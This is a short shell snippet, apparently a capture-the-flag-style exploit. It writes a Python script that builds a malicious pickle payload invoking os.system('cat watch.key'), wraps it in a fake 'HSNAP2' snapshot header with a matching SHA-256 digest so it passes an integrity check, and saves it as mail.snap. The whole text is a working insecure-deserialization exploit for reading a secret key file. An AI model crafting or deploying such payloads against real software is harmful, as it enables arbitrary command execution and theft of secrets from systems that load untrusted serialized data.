cat > make.py <<'P'
import hashlib
body = b"cos\nsystem\n(S'cat watch.key'\ntR."
open("mail.snap", "wb").write(b"HSNAP2\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
P
python3 make.py && echo mail.snap
